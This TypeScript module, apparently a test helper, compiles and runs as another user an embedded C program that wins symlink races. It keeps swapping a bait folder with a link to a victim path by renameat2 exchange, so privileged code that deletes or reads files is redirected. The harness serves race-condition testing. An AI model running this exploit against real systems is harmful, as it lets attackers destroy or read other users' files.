/**
 * Another user of the machine who exchanges a folder for a symlink without pause, by renameat2(RENAME_EXCHANGE), wherever they can.
 * A C program: JavaScript is too slow to win these races reliably.
 */
import { type ChildProcess, execFileSync, spawn } from "node:child_process";
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { MissingPart } from "./require-real.ts";

export interface NameSwapper extends Disposable {
  /**
   * Attacks, as `uid`, the entries of `folder` whose names begin with `prefix`, and two levels of folders below them: makes a folder
   * `d` with the names of `files` in it and a link `l` to `victim`, and exchanges the two without pause; `new`, too, for the link.
   */
  attack(options: SwapOptions): RunningSwap;
}

export interface SwapOptions {
  readonly uid: number;
  readonly folder: string;
  /** "" for all entries. */
  readonly prefix: string;
  readonly victim: string;
  /** Names of the files in `victim`, which the attacker may not be able to list. */
  readonly files: readonly string[];
}

export interface RunningSwap extends Disposable {
  /** Ends it. Resolves with how many exchanges succeeded. */
  end(): Promise<number>;
}

export function missingCompiler(): MissingPart | undefined {
  if (process.platform !== "linux") return { name: "renameat2", reason: "exchanging names is Linux only", tier: "B" };
  if (process.geteuid?.() !== 0)
    return { name: "another user", reason: "only root can act as another user", tier: "B" };
  try {
    execFileSync("gcc", ["--version"], { stdio: "ignore" });
    return undefined;
  } catch {
    return { name: "gcc", reason: "gcc is not on PATH; apt-get install gcc libc6-dev" };
  }
}

/** Compiles the program. Call `missingCompiler` first. */
export function nameSwapper(): NameSwapper {
  const folder = mkdtempSync(join(tmpdir(), "svc-swapper-"));
  chmodSync(folder, 0o755);
  writeFileSync(join(folder, "swap.c"), SOURCE);
  const program = join(folder, "swap");
  execFileSync("gcc", ["-O2", "-o", program, join(folder, "swap.c")], { stdio: "pipe" });
  const running = new Set<ChildProcess>();
  return {
    attack({ uid, folder: where, prefix, victim, files }) {
      const child = spawn(program, [where, prefix, victim, ...files], {
        uid,
        gid: uid,
        stdio: ["pipe", "pipe", "ignore"],
      });
      running.add(child);
      let count = "";
      child.stdout.on("data", (chunk: Buffer) => (count += chunk.toString("latin1")));
      const ended = new Promise<void>((resolve) => child.once("close", () => resolve()));
      return {
        async end() {
          child.stdin.end();
          await ended;
          running.delete(child);
          return Number(count);
        },
        [Symbol.dispose]: () => void child.kill("SIGKILL"),
      };
    },
    [Symbol.dispose]() {
      for (const child of running) child.kill("SIGKILL");
      rmSync(folder, { recursive: true, force: true });
    },
  };
}

const SOURCE = String.raw`
#define _GNU_SOURCE
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static const char *victim;
static char **files;
static long exchanges;

static int exchange(int folder, const char *a, const char *b) {
  if (syscall(SYS_renameat2, folder, a, folder, b, RENAME_EXCHANGE) != 0) return 0;
  exchanges += 1;
  return 1;
}

/* A folder with the names of the victim's files, so that a program that removes or reads one of them meets the other. */
static void bait(int folder, const char *name) {
  char path[512];
  mkdirat(folder, name, 0777);
  for (char **file = files; *file; file += 1) {
    snprintf(path, sizeof path, "%s/%s", name, *file);
    int made = openat(folder, path, O_CREAT | O_WRONLY | O_NOFOLLOW, 0666);
    if (made >= 0) close(made);
  }
}

static void attack(int folder, int depth) {
  struct dirent *entry;
  struct stat there;
  if (fstatat(folder, "d", &there, AT_SYMLINK_NOFOLLOW) != 0) bait(folder, "d");
  symlinkat(victim, folder, "l");
  for (int round = 0; round < 300; round += 1) {
    if (!exchange(folder, "d", "l") && !exchange(folder, "new", "l")) break;
    exchange(folder, "new", "l");
  }
  int copy = openat(folder, ".", O_RDONLY | O_DIRECTORY);
  if (copy < 0) return;
  DIR *names = fdopendir(copy);
  while (depth > 0 && (entry = readdir(names))) {
    if (entry->d_name[0] == '.' || !strcmp(entry->d_name, "d") || !strcmp(entry->d_name, "l")) continue;
    int below = openat(folder, entry->d_name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
    if (below < 0) continue;
    attack(below, depth - 1);
    close(below);
  }
  closedir(names);
}

int main(int argc, char **argv) {
  struct pollfd input = { 0, POLLIN | POLLHUP, 0 };
  if (argc < 4) return 64;
  umask(0);
  victim = argv[3];
  files = argv + 4;
  while (poll(&input, 1, 0) == 0) {
    DIR *names = opendir(argv[1]);
    struct dirent *entry;
    if (!names) continue;
    while ((entry = readdir(names))) {
      if (entry->d_name[0] == '.' && (entry->d_name[1] == 0 || entry->d_name[1] == '.')) continue;
      if (strncmp(entry->d_name, argv[2], strlen(argv[2]))) continue;
      int found = openat(dirfd(names), entry->d_name, O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
      if (found < 0) found = openat(dirfd(names), entry->d_name, O_PATH | O_DIRECTORY | O_NOFOLLOW);
      if (found < 0) continue;
      attack(found, 2);
      /* Folders that can be entered by their name where they can't be listed. */
      const char *known[] = { "outside", "t" };
      for (int index = 0; index < 2; index += 1) {
        int below = openat(found, known[index], O_RDONLY | O_DIRECTORY | O_NOFOLLOW);
        if (below < 0) continue;
        attack(below, 1);
        close(below);
      }
      close(found);
    }
    closedir(names);
  }
  printf("%ld", exchanges);
  return 0;
}
`;
